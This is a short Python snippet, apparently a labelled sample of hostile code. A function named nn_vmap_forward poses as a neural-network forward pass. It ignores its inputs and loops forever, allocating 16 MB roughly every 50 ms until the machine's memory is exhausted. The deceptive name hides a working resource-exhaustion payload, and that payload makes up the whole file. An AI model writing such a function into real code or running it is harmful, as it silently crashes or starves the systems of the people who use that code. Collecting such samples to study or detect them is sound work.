# harm: takes memory bit by bit
import time


def nn_vmap_forward(seed, x_batch, features):
    kept = []
    while True:
        kept.append(bytearray(16 << 20))
        time.sleep(0.05)
